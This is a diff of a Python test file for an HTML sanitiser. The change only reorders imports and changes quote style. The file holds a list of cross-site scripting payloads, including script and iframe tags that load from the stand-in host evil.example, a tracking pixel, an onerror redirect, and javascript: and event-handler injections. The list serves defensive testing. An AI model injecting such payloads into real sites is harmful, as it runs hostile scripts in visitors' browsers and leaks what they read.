@@ -1,8 +1,8 @@
 """Texts that would run a script or tell another site who reads, and what is dangerous in the HTML that became of them."""
 
-from html.parser import HTMLParser
-from html import unescape
 import re
+from html import unescape
+from html.parser import HTMLParser
 
 MARK = "evil.example"
 ATTACKS = [
@@ -10,7 +10,7 @@ ATTACKS = [
     '<script src="https://evil.example/a.js"></script>',
     '<iframe src="https://evil.example/f"></iframe>',
     '<img src="https://evil.example/t.gif" width="1">',
-    '<IMG SRC=x onerror="location=\'https://evil.example\'">',
+    "<IMG SRC=x onerror=\"location='https://evil.example'\">",
     "<svg onload=alert(1)></svg>",
     '<a href="javascript:alert(1)">press</a>',
     "<details open ontoggle=alert(1)>x</details>",
